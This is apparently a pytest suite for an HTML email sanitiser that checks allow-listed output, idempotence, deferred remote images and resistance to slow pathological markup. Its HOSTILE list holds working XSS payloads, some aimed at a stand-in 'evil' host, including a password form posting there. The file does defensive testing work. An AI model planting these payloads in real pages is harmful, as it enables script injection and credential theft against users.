import json
import os
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amends.words import sanitise, text_of
from amends.words.sanitising import ATTRIBUTES, LINK, TAGS


class Inspector(HTMLParser):
    """Fails on anything that is not on the allow-list."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset())
        for name, value in attrs:
            assert name in allowed or (tag == "a" and LINK.get(name) == value), (tag, name)
            if name == "href":
                assert value.lower().startswith(("http://", "https://", "mailto:", "tel:")), value
            if name == "src":
                assert value.startswith("data:image/") or value == "/files/logo", value
            if name == "data-remote-src":
                assert value.lower().startswith(("http://", "https://")), value

    def handle_comment(self, data):
        raise AssertionError(data)

    def handle_decl(self, decl):
        raise AssertionError(decl)

    unknown_decl = handle_pi = handle_decl


def assert_harmless(html: str) -> None:
    shown = sanitise(html, images={"logo": "/files/logo"}).html
    inspector = Inspector()
    inspector.feed(shown)
    inspector.close()
    once = sanitise(html).html
    assert sanitise(once).html == once


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><details open ontoggle=alert(1)>",
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<div style="position:fixed;background:url(http://evil)">x</div>',
    "<style>@import 'http://evil'</style>",
    '<form action=http://evil><input name=password><button formaction="javascript:1">',
    '<a id=csrf name=forms class="modal">x</a><base href=http://evil>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html,x">',
    '<img src="/w/demo/sign-out/"><a href="//evil.example">x</a><a href="/admin">y</a>',
    '<img alt=\' src="\' src="http://evil/x.png"> src="http://evil"',
    "<iframe srcdoc='<script>1</script>'></iframe><object data=x><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil'><link rel=stylesheet href=http://evil>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_x_1_x_3_x_11_only_what_is_allowed_comes_out_and_twice_is_the_same(html):
    assert_harmless(html)


def test_x_1_x_3_every_known_hostile_fragment_comes_out_harmless():
    corpora = os.environ.get("AMENDS_CORPORA")
    if not corpora:
        pytest.skip("AMENDS_CORPORA is not set: the collection of hostile HTML was not tried")
    vectors = json.loads((Path(corpora) / "xss" / "vectors.json").read_text())
    assert len(vectors) > 200
    for vector in vectors:
        assert_harmless(vector["payload"])


@given(st.text(alphabet="<>/=\"'&;abi msrctyle:hxp-!\t\x00", max_size=200))
def test_x_3_no_broken_tag_slips_through(html):
    assert_harmless(html)


def test_x_10_remote_images_wait_until_somebody_asks():
    mail = (
        '<p>Hi<img src="https://tracker.example/p.gif" width="1"><img src="http://b.example/x"></p>'
    )
    kept_back = sanitise(mail)
    assert kept_back.remote_images == 2
    assert ' src="' not in kept_back.html
    loaded = sanitise(mail, load_remote=True)
    assert loaded.remote_images == 0
    assert 'src="https://tracker.example/p.gif"' in loaded.html


def test_images_that_came_with_the_mail_are_shown_from_our_own_address():
    mail = '<img src="cid:logo@x"><img src="cid:unknown">'
    assert sanitise(mail, images={"logo@x": "/files/logo"}).html == '<img src="/files/logo"><img>'


def test_a_link_opens_apart_and_tells_nothing():
    shown = sanitise('<a href="https://example.com">x</a>').html
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


@pytest.mark.parametrize("piece", ["<div>", "<b></p>", "<a><b></a>", "<table><td>", "<!--", "<"])
def test_x_12_html_made_to_be_slow_is_read_in_a_moment(piece):
    hostile = piece * 100_000 + "last words"
    began = time.process_time()
    sanitise(hostile)
    text_of(hostile)
    assert time.process_time() - began < 5


def test_html_too_deep_to_parse_still_shows_its_words():
    deep = "<div>" * 10_000 + "last <b>words</b> &amp;"
    assert "last" in sanitise(deep).html
    assert "<div>" not in sanitise(deep).html
    assert "words" in text_of(deep)


def test_reading_html_keeps_every_word_in_its_line():
    html = """<html><head><title>账单</title><style>p{}</style></head><body><p>您好，<b>王</b>女士<br>第二行</p>
    <table><tr><td>订单</td><td>88123</td></tr></table>
    <blockquote>earlier<blockquote>first</blockquote></blockquote><img alt="公司标志" src="x">
    <pre>a
b</pre><script>alert(1)</script></body></html>"""
    assert text_of(html) == (
        "账单\n您好，王女士\n第二行\n订单\t88123\n> earlier\n> > first\n公司标志\na\nb"
    )
